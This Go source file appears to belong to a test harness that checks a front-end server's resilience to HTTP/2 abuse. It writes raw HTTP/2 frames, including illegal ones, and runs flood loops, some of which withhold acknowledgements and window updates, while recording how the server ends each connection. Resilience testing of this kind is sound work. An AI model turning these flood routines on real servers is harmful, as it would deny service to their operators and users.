package attacks

import (
	"bytes"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// pieces is the minimum number of bytes of a write.
const pieces = 15 << 10

// peer is an HTTP/2 client without a library. flush sends the frames that its Framer wrote.
type peer struct {
	*http2.Framer
	a       *attackRun
	conn    *tls.Conn
	out     bytes.Buffer
	encoder *hpack.Encoder
	block   bytes.Buffer
	next    uint32
	frames  int64

	mute atomic.Bool   // it acknowledges nothing
	deaf atomic.Bool   // it sends no WINDOW_UPDATE for received data
	told chan struct{} // closed on a GOAWAY with an error code, or at the end of the stream
	gone chan struct{} // closed when nothing more can be read
	how  string        // valid then
	code string        // error code of the GOAWAY; valid when told is closed

	window atomic.Int64 // flow-control window of the connection

	began time.Time
	past  bool // it continues after the GOAWAY

	writing sync.Mutex // one record at a time

	mu      sync.Mutex // guards the following fields
	waiting map[uint32]chan string
}

// greet connects and sends the client preface.
func (a *attackRun) greet(settings ...http2.Setting) (*peer, error) {
	conn, err := a.dial("h2")
	if err != nil {
		return nil, err
	}
	p := newPeer(a, conn)
	p.out.WriteString(http2.ClientPreface)
	_ = p.WriteSettings(settings...)
	err = p.flushRaw(1)
	go p.listen() // only now: its acknowledgements must follow the preface
	return p, err
}

func newPeer(a *attackRun, conn *tls.Conn) *peer {
	p := &peer{a: a, conn: conn, next: 1, gone: make(chan struct{}), told: make(chan struct{}), began: time.Now(), waiting: map[uint32]chan string{}}
	p.Framer = http2.NewFramer(&p.out, nil)
	p.AllowIllegalWrites = true
	p.window.Store(65_535)
	p.encoder = hpack.NewEncoder(&p.block)
	return p
}

// encode returns a header block of these fields.
func (p *peer) encode(fields ...string) []byte {
	p.block.Reset()
	for i := 0; i+1 < len(fields); i += 2 {
		_ = p.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return bytes.Clone(p.block.Bytes())
}

// request returns the fields of a request of the attacker, followed by more.
func request(method, path string, more ...string) []string {
	return append([]string{":method", method, ":scheme", "https", ":authority", "front.example.com", ":path", path, "authorization", "Bearer " + attackerToken}, more...)
}

// nobody returns the fields of a request without a credential.
func nobody(method, path string, more ...string) []string {
	return append([]string{":method", method, ":scheme", "https", ":authority", "front.example.com", ":path", path}, more...)
}

func (p *peer) id() uint32 {
	p.next += 2
	return p.next - 2
}

// open begins a stream with these fields.
func (p *peer) open(end bool, fields ...string) uint32 {
	id := p.id()
	_ = p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.encode(fields...), EndHeaders: true, EndStream: end})
	return id
}

// opened is open with an encoded block.
func (p *peer) opened(end bool, block []byte) uint32 {
	id := p.id()
	_ = p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: end})
	return id
}

// long opens a stream with a block of any length, in as many frames as it takes.
func (p *peer) long(end bool, block []byte) uint32 {
	id := p.id()
	first := block[:min(len(block), 16_000)]
	block = block[len(first):]
	_ = p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(block) == 0, EndStream: end})
	for len(block) > 0 {
		part := block[:min(len(block), 16_000)]
		block = block[len(part):]
		_ = p.WriteContinuation(id, len(block) == 0, part)
	}
	return id
}

// flush sends the written frames, and counts them.
func (p *peer) flush() error {
	n := 0
	for b := p.out.Bytes(); len(b) >= 9; n++ {
		length := int(b[0])<<16 | int(b[1])<<8 | int(b[2])
		b = b[min(len(b), 9+length):]
	}
	return p.flushRaw(n)
}

func (p *peer) flushRaw(frames int) error {
	p.writing.Lock()
	defer p.writing.Unlock()
	_ = p.conn.SetWriteDeadline(time.Now().Add(time.Second))
	n, err := p.conn.Write(p.out.Bytes())
	p.out.Reset()
	if err != nil {
		return err
	}
	p.frames += int64(frames)
	p.a.sent(frames, n)
	return nil
}

// word returns how the connection ended, if it has ended.
func (p *peer) word() string {
	if p.code != "" {
		return p.code
	}
	<-p.gone
	return p.how
}

// flood sends frames until the attack is over or the front door ends the connection.
func (p *peer) flood(each func(*peer)) {
	for !p.a.over() {
		for p.out.Len() < pieces {
			each(p)
		}
		if p.ended() || p.flush() != nil {
			return
		}
	}
}

// ended reports whether further writes are useless.
func (p *peer) ended() bool {
	stop := p.told
	if p.past {
		stop = p.gone
	}
	select {
	case <-stop:
		return true
	default:
		return false
	}
}

// leave ends the connection and records which side ended it, and with which code. A connection that only the end of the attack
// closed counts as left open if it existed for half of the attack.
func (p *peer) leave() {
	p.a.mostOf(p.frames)
	patience := time.Second
	if p.a.over() {
		patience = 20 * time.Millisecond
	}
	select {
	case <-p.told:
	case <-time.After(patience):
	}
	p.a.close(p.conn.NetConn())
	<-p.gone
	switch {
	case p.how != "":
		p.a.came("ended: %s", p.how)
	case time.Since(p.began) > time.Since(p.a.began)/2:
		p.a.came("left open")
	}
}

var settingsAck = []byte{0, 0, 0, 4, 1, 0, 0, 0, 0}

// write sends a requested frame.
func (p *peer) write(frame []byte) {
	if p.mute.Load() {
		return
	}
	p.writing.Lock()
	defer p.writing.Unlock()
	_ = p.conn.SetWriteDeadline(time.Now().Add(time.Second))
	_, _ = p.conn.Write(frame)
}

// listen reads until the connection ends.
func (p *peer) listen() {
	f := http2.NewFramer(io.Discard, p.conn)
	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	f.MaxHeaderListSize = 1 << 20
	f.SetMaxReadFrameSize(1 << 20)
	how := ""
	var warned sync.Once
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			if how == "" && !errors.Is(err, net.ErrClosed) {
				how = brief(err)
			}
			break
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				p.write(settingsAck)
			}
		case *http2.PingFrame:
			if !frame.IsAck() {
				p.write(append([]byte{0, 0, 8, 6, 1, 0, 0, 0, 0}, frame.Data[:]...))
			}
		case *http2.GoAwayFrame:
			if frame.ErrCode != http2.ErrCodeNo {
				how = "GOAWAY " + frame.ErrCode.String()
				warned.Do(func() {
					p.code = how
					close(p.told)
				})
			}
		case *http2.WindowUpdateFrame:
			if frame.StreamID == 0 {
				p.window.Add(int64(frame.Increment))
			}
		case *http2.RSTStreamFrame:
			if frame.ErrCode != http2.ErrCodeNo {
				p.a.came("reset: %s", frame.ErrCode)
			}
			p.tell(frame.StreamID, "reset "+frame.ErrCode.String())
		case *http2.MetaHeadersFrame:
			if status := frame.PseudoValue("status"); status != "" && !strings.HasPrefix(status, "1") {
				p.a.came("answered: %s", status)
				p.tell(frame.StreamID, status)
			}
		case *http2.DataFrame:
			if n := frame.Header().Length; n > 0 && !p.deaf.Load() {
				p.write(windowUpdate(0, n))
				if !frame.StreamEnded() {
					p.write(windowUpdate(frame.StreamID, n))
				}
			}
		}
	}
	p.how = how
	warned.Do(func() { close(p.told) })
	close(p.gone)
}

func windowUpdate(stream, n uint32) []byte {
	b := []byte{0, 0, 4, 8, 0}
	b = binary.BigEndian.AppendUint32(b, stream)
	return binary.BigEndian.AppendUint32(b, n)
}

// expect returns a channel that receives the status of a stream's response.
func (p *peer) expect(id uint32) <-chan string {
	c := make(chan string, 1)
	p.mu.Lock()
	defer p.mu.Unlock()
	p.waiting[id] = c
	return c
}

func (p *peer) tell(id uint32, what string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if c := p.waiting[id]; c != nil {
		c <- what
		delete(p.waiting, id)
	}
}

// ask sends a request and waits for its status, "" if the connection ends or no response arrives.
func (p *peer) ask(method, path string, more ...string) string {
	id := p.id()
	answer := p.expect(id)
	_ = p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.encode(request(method, path, more...)...), EndHeaders: true, EndStream: true})
	if p.flush() != nil {
		return ""
	}
	return p.wait(answer)
}

func (p *peer) wait(answer <-chan string) string {
	select {
	case status := <-answer:
		return status
	case <-p.gone:
		select {
		case status := <-answer:
			return status
		default:
			return ""
		}
	case <-time.After(5 * time.Second):
		return ""
	}
}

// floods is an attack: connections that each begin and then flood, and reconnect when they are closed.
func floods(begin, each func(*peer), settings ...http2.Setting) func(*attackRun) {
	return func(a *attackRun) {
		a.again(2, func() error {
			p, err := a.greet(settings...)
			if err != nil {
				return err
			}
			if begin != nil {
				begin(p)
			}
			p.flood(each)
			p.leave()
			return nil
		})
	}
}

// frame returns a function that writes the same frame every time.
func frame(kind http2.FrameType, flags http2.Flags, stream uint32, payload string) func(*peer) {
	var b bytes.Buffer
	_ = http2.NewFramer(&b, nil).WriteRawFrame(kind, flags, stream, []byte(payload))
	return func(p *peer) { p.out.Write(b.Bytes()) }
}

// deafFloods are floods that never read: responses stay in the buffers.
func deafFloods(begin, each func(*peer)) func(*attackRun) {
	return func(a *attackRun) {
		a.again(2, func() error {
			conn, err := a.dial("h2")
			if err != nil {
				return err
			}
			p := newPeer(a, conn)
			p.out.WriteString(http2.ClientPreface)
			_ = p.WriteSettings()
			if begin != nil {
				begin(p)
			}
			began := time.Now()
			for !a.over() {
				for p.out.Len() < pieces {
					each(p)
				}
				if err = p.flush(); err != nil {
					break
				}
			}
			a.mostOf(p.frames)
			switch {
			case err != nil:
				a.came("ended: %s", brief(err))
			case time.Since(began) > time.Since(a.began)/2:
				a.came("left open")
			}
			a.close(conn.NetConn())
			return nil
		})
	}
}
